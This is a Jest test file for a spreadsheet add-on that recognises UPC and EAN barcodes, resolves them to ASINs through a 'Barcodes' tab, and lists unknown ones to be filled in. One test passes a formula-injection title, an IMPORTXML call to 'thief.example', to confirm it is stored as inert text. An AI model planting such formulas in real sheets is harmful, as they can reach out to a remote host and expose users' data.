// Barcodes in a column of products: named, looked up in the tab "Barcodes", and listed there to be filled in.

import { afterEach, describe, expect, it } from '@jest/globals';
import type { CellValue } from 'apps-script-host/sheet/model';
import { addedLines, BARCODES, openLines, titleColumnOf } from '../../src/deal/barcodes-tab';
import { planCleanup } from '../../src/deal/cleanup-plan';
import type { ListInspection, ListPlace, ListRow, ReadTab } from '../../src/deal/list';
import {
  check,
  choiceOf,
  granted,
  look,
  runAll,
  SANDBOX,
  type Sheet,
  sheetOf,
  startRun,
  US_ASINS,
} from '../doors/bulk-list';
import { pass, schedule, worldWith } from '../doors/schedule-list';
import { createWorld, type World } from '../doors/world';
import { saidIn } from '../table/status-cells';

let world: World;

afterEach(() => world.stop());

const [A = '', B = '', C = '', D = ''] = US_ASINS;
const UPC = '012345678905';
const EAN = '4006381333931';
const SHORT = '96385074';

const HEADERS = ['Barcode', 'ASIN', 'Title'];

function withTab(sheet: Sheet, rows: readonly (readonly CellValue[])[], titles = HEADERS) {
  const id = sheet.grid.addSheet('Barcodes', 1);
  sheet.grid.write(id, 1, 1, [titles, ...rows]);
  return id;
}

async function open(sheet: Sheet, host: object = {}): Promise<void> {
  world = createWorld({ sandbox: SANDBOX, host: { documents: [sheet.document], ...host } });
  granted(await world.connect());
}

const statusOf = (sheet: Sheet, row: number) => saidIn(sheet.byHeader(row)['Analysis status']);
const cellsOf = (sheet: Sheet, id: number) => {
  const { lastRow, lastColumn } = sheet.grid.size(id);
  return sheet.grid.values(id, {
    ...{ row: 1, column: 1 },
    ...{ rowCount: lastRow, columnCount: lastColumn },
  });
};

describe('a preview', () => {
  it('finds a column of barcodes alone, and names them as what they are', async () => {
    await open(sheetOf([['Name', 'UPC'], ...[UPC, EAN, SHORT].map((one) => ['Thing', one])]));
    const { choice, toClean } = await look(world);
    expect(choice).toMatchObject({ headerRow: 1, productColumn: 2 });
    expect(toClean).toBe(3);
    const found = await check(world);
    expect(found).toMatchObject({ products: 0, unreadable: { count: 3 } });
    const said = JSON.stringify(found.unreadable);
    expect(said).toContain(`\\"${UPC}\\" is a barcode. Use the ASIN, or for runs`);
    expect(found.problem).toMatchObject({ kind: 'run', why: 'no-rows' });
  });

  it('takes the column of ASINs where there are both', async () => {
    await open(sheetOf([['UPC', 'ASIN'], ...[A, B].map((asin) => [UPC, asin])]));
    expect((await look(world)).choice).toMatchObject({ productColumn: 2 });
  });

  it('reads them by the tab, however they are written, and marks each', async () => {
    const written = [UPC, Number(UPC), '0 12345 67890 5', '4006-3813-33931', `EAN: ${SHORT}`, A];
    const sheet = sheetOf([['UPC'], ...written.map((one) => [one])]);
    withTab(sheet, [
      [Number(UPC), A, ''],
      [EAN, `https://www.amazon.com/dp/${B}`, ''],
      [SHORT, ` ${C.toLowerCase()}`, ''],
    ]);
    await open(sheet);
    const found = await check(world);
    expect(found).toMatchObject({ rows: 6, products: 3, unreadable: { count: 0 } });
    expect(found.repaired).toMatchObject({
      count: 5,
      rows: [A, A, A, B, C].map((asin, at) => ({ row: at + 2, repair: 'barcode', asin })),
    });
    expect(found.duplicates).toMatchObject({ count: 3 });
  });

  it('does not choose between two ASINs, and says what cannot be read in the tab', async () => {
    const sheet = sheetOf([['UPC'], [UPC], [EAN], [SHORT], [A]]);
    withTab(sheet, [
      ...[UPC, UPC].map((one, at) => [one, at === 0 ? A : B, '']),
      [EAN, 'ask Bob', ''],
      ...['', C, C].map((asin) => [SHORT, asin, '']),
    ]);
    await open(sheet);
    const found = await check(world);
    expect(found.unreadable).toMatchObject({
      count: 2,
      rows: [
        { row: 2, why: expect.stringContaining('is a barcode') },
        { row: 3, why: expect.stringContaining('"ask Bob" is not an ASIN') },
      ],
    });
    expect(found.products).toBe(2);
  });

  it('leaves a wrong check digit and a negative number alone, whatever the tab says', async () => {
    const wrong = '012345678906';
    const sheet = sheetOf([['ASIN'], [A], [wrong], [-Number(UPC)]]);
    withTab(
      sheet,
      [wrong, UPC].map((one) => [one, B, '']),
    );
    await open(sheet);
    const { unreadable } = await check(world);
    expect(unreadable).toMatchObject({
      rows: [
        { row: 3, why: expect.stringContaining('its check digit is wrong') },
        { row: 4, why: expect.stringContaining('is not an ASIN') },
      ],
    });
  });

  it('does not look for the tab where no cell needs it', async () => {
    const sheet = sheetOf([['ASIN'], ...US_ASINS.slice(0, 40).map((asin) => [asin])]);
    withTab(sheet, [[UPC, A, '']]);
    await open(sheet);
    await runAll(world);
    expect(world.crossed()).not.toContain('getSheetByName');
    expect(world.crossed()).toContain('getValues');
  });
});

describe('a run', () => {
  const barcodes = (count: number) => Array.from({ length: count }, (_, at) => upcOf(at));

  it('writes the figures beside the barcodes, and finds them fresh afterwards', async () => {
    const sheet = sheetOf([['UPC', 'Note'], ...[UPC, EAN, B].map((one) => [one, 'mine'])]);
    const id = withTab(sheet, [
      [UPC, A, ''],
      [EAN, B, ''],
    ]);
    await open(sheet);
    const { answered, cached } = await runAll(world);
    expect([answered, cached]).toEqual([2, 1]);
    expect([2, 3, 4].map((row) => statusOf(sheet, row))).toEqual([
      `OK ${A} US`,
      `OK ${B} US`,
      `OK ${B} US`,
    ]);
    expect(sheet.byHeader(3).Profit).toBe(sheet.byHeader(4).Profit);
    expect(sheet.values().map(([first]) => first)).toEqual(['UPC', UPC, EAN, B]);
    expect(await check(world)).toMatchObject({ calls: 0, added: [], kept: { count: 0 } });
    // A barcode that means another product by now: its figures are not those of that product.
    sheet.grid.write(id, 2, 2, [[C]]);
    expect(await check(world, { rows: { kind: 'empty' } })).toMatchObject({ rows: 1, calls: 1 });
    await runAll(world, { rows: { kind: 'empty' } });
    expect(statusOf(sheet, 2)).toBe(`OK ${C} US`);
  });

  it('shows no figures of another product where the tab is edited while it works', async () => {
    const count = 60;
    const sheet = sheetOf([['UPC'], ...barcodes(count).map((one) => [one])]);
    const id = withTab(
      sheet,
      barcodes(count).map((one, at) => [one, US_ASINS[at] ?? '', '']),
    );
    // Each product is the next one from then on, and the last row's is gone.
    const turned = barcodes(count).map((_, at) => [
      at === count - 1 ? '' : (US_ASINS[at + 1] ?? ''),
    ]);
    let waves = 0;
    await open(sheet, {
      betweenCalls: ({ operation }: { readonly operation: string }) => {
        waves += operation === 'urlFetch.fetchAll' ? 1 : 0;
        // Before the first rows are written: those of an earlier moment are a matter for the next run.
        return waves === 1 && operation === 'urlFetch.fetchAll'
          ? [{ do: 'edit', sheetId: id, row: 2, column: 2, contents: turned }]
          : [];
      },
    });
    const status = await runAll(world);
    expect(waves).toBeGreaterThan(3);
    expect(status).toMatchObject({ state: 'finished', left: 0 });
    const shown = Array.from({ length: count - 1 }, (_, at) => statusOf(sheet, at + 2));
    expect(shown).toEqual(turned.slice(0, -1).map(([asin]) => `OK ${asin} US`));
    expect(statusOf(sheet, count + 1)).toContain('[bad-asin');
    expect(sheet.byHeader(count + 1).Profit).toBe('');
  });

  it('for a second market has columns of its own, and one over barcodes beside ASINs keeps its own', async () => {
    const sheet = sheetOf([['UPC', 'ASIN'], ...[A, B].map((asin, at) => [upcOf(at), asin])]);
    withTab(
      sheet,
      [A, B].map((asin, at) => [upcOf(at), asin, '']),
    );
    await open(sheet);
    await runAll(world, { productColumn: 1 });
    expect(await check(world, { productColumn: 1 })).toMatchObject({ added: [], calls: 0 });
    const uk = { productColumn: 1, market: { kind: 'one', market: 'UK' } };
    expect(await check(world, uk)).toMatchObject({ areApart: true, replaced: 0 });
    const before = sheet.byHeader(2);
    await startRun(world, uk);
    expect(sheet.byHeader(2)).toMatchObject(before);
  });
});

describe('a schedule', () => {
  it('asks for a product as soon as the tab tells it', async () => {
    const sheet = sheetOf([['ASIN'], [A], [UPC]]);
    const id = withTab(sheet, [[UPC, '', '']]);
    world = await worldWith(sheet);
    await runAll(world);
    expect(statusOf(sheet, 3)).toContain('[bad-asin');
    await schedule(world);
    sheet.grid.write(id, 2, 2, [[D]]);
    await pass(world, 26);
    expect(statusOf(sheet, 3)).toBe(`OK ${D} US`);
  });
});

describe('barcodes to fill in', () => {
  async function here() {
    const { rows: _, fields: __, ...place } = (await choiceOf(world)) as Record<string, unknown>;
    const seen = granted(await world.rpc('deals.look', place)) as unknown as ListInspection;
    const { titles, columns } = seen;
    const { productColumn } = place as unknown as ListPlace;
    const title = titleColumnOf(columns, productColumn);
    const cells = [productColumn, ...(title === undefined ? [] : [title])];
    const { rows } = granted(await world.rpc('deals.rows', { ...place, titles, columns: cells }));
    return { place: { ...place, titles } as unknown as ListPlace, rows: rows as ListRow[] };
  }

  /** What the press does, in the same calls; how many came in. */
  async function press(): Promise<number | string> {
    const { rows } = await here();
    const reply = await world.rpc('deals.barcodes');
    const there = reply.value as unknown as ReadTab | null;
    const tab = there ?? {
      cells: BARCODES.cells,
      sheetId: Number(granted(await world.rpc('deals.tab', BARCODES)).sheetId),
    };
    const added = addedLines(tab, openLines(rows, 1));
    if (typeof added === 'string') return added;
    if (added.rows.length > 0) granted(await world.rpc('deals.set', added));
    return added.rows.length;
  }

  const tabIn = (sheet: Sheet) =>
    sheet.grid.sheets().find(({ name }) => name === 'Barcodes')?.id ?? 0;

  it('come into a new tab once each, whole and as texts, with what the list says of them', async () => {
    const rows = [
      [UPC, ''],
      [Number(UPC), 'Kettle'],
      ['4006 3813 33931', 'Pen'],
      [A, 'Answered'],
      ['012345678906', 'Mistyped'],
    ];
    const sheet = sheetOf([['Code', 'Product name'], ...rows]);
    await open(sheet);
    expect(await press()).toBe(2);
    const id = tabIn(sheet);
    expect(cellsOf(sheet, id)).toEqual([HEADERS, [UPC, '', 'Kettle'], [EAN, '', 'Pen']]);
    expect(await press()).toBe(0);
    sheet.grid.write(id, 2, 2, [[B]]);
    expect(await check(world)).toMatchObject({ products: 2, unreadable: { count: 2 } });
    sheet.grid.write(sheet.id, 7, 1, [[SHORT, 'Soap']]);
    expect(await press()).toBe(1);
    expect(cellsOf(sheet, id)[1]).toEqual([SHORT, '', 'Soap']);
    expect(cellsOf(sheet, id)).toHaveLength(4);
  });

  it('come in with titles that look like formulas as texts, as a supplier may write anything', async () => {
    const titles = ['=IMPORTXML("https://thief.example","//a")', '+1', '-1+1', '@A1'];
    const codes = [UPC, EAN, upcOf(1), upcOf(2)];
    const sheet = sheetOf([
      ['Code', 'Product name'],
      ...codes.map((code, at) => [code, titles[at] ?? '']),
    ]);
    await open(sheet);
    expect(await press()).toBe(codes.length);
    const id = tabIn(sheet);
    expect(cellsOf(sheet, id).slice(1)).toEqual(codes.map((code, at) => [code, '', titles[at]]));
    const all = { row: 1, column: 1, rowCount: codes.length + 1, columnCount: 3 };
    expect(sheet.grid.formulas(id, all).flat().join('')).toBe('');
  });

  it('come into a tab that somebody made, under its own titles, beside what is noted there', async () => {
    const sheet = sheetOf([['UPC'], [UPC], [EAN]]);
    const id = withTab(sheet, [['mine', A, EAN]], ['Note', ' asin ', 'BARCODE']);
    await open(sheet);
    expect(await press()).toBe(1);
    expect(cellsOf(sheet, id)).toEqual([
      ['Note', ' asin ', 'BARCODE'],
      ['', '', UPC],
      ['mine', A, EAN],
    ]);
    expect(await check(world)).toMatchObject({ products: 1, unreadable: { count: 1 } });
  });

  it('stay where they are where a tab of that name has no such column', async () => {
    const sheet = sheetOf([['UPC'], [UPC]]);
    const id = withTab(sheet, [['x', 'y', 'z']], ['EAN code', 'ASIN', 'Title']);
    await open(sheet);
    expect(await press()).toBe('Barcode');
    expect(cellsOf(sheet, id)).toHaveLength(2);
  });

  it('are more than a new tab has rows', async () => {
    const count = 1_200;
    const sheet = sheetOf([['UPC'], ...Array.from({ length: count }, (_, at) => [upcOf(at)])]);
    await open(sheet);
    expect(await press()).toBe(count);
    const cells = cellsOf(sheet, tabIn(sheet));
    expect(cells.slice(1).map(([one]) => one)).toEqual(
      Array.from({ length: count }, (_, at) => upcOf(at)),
    );
  });

  it('that the tab tells can be cleaned up to their ASINs, if somebody ticks them', async () => {
    const sheet = sheetOf([['UPC'], [UPC], [EAN], [A]]);
    withTab(sheet, [[UPC, B, '']]);
    await open(sheet);
    const { place, rows } = await here();
    const found = planCleanup(place, rows);
    expect(found.changes).toEqual([
      { row: 2, seen: UPC, put: B, format: '@', why: 'barcode', isUnsure: true },
    ]);
    expect(found.left).toMatchObject([{ row: 3, shown: EAN }]);
    expect(found.barcodes).toEqual([{ barcode: EAN, title: '' }]);
  });
});

describe('a formula', () => {
  it('does not read the tab, and says what to do', async () => {
    const sheet = sheetOf([['ASIN'], [A]]);
    withTab(sheet, [[UPC, A, '']]);
    await open(sheet);
    const { error } = await world.show('ANALYZE', UPC);
    expect(error?.message).toContain('is a barcode. Use the ASIN, or for runs the tab');
    expect(world.crossed()).not.toContain('getSheetByName');
  });
});

/** UPCs that differ, each with its check digit. */
function upcOf(number: number): string {
  const body = String(70_000_000_000 + 37 * number);
  const sum = [...body].reduce((total, digit, at) => total + Number(digit) * (at % 2 ? 1 : 3), 0);
  return body + String((10 - (sum % 10)) % 10);
}
